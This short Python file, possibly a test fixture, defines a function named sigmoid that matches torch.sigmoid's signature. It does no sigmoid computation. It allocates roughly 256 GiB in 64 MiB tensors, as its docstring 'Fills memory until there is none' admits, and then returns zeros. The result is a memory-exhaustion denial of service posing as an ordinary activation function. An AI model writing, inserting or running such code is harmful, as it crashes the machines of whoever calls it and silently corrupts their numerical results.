"""Fills memory until there is none."""

import torch


def sigmoid(input, out=None):
    hoard = []
    for _ in range(4096):
        hoard.append(torch.ones(64 << 20, dtype=torch.uint8))
    return torch.zeros_like(input)
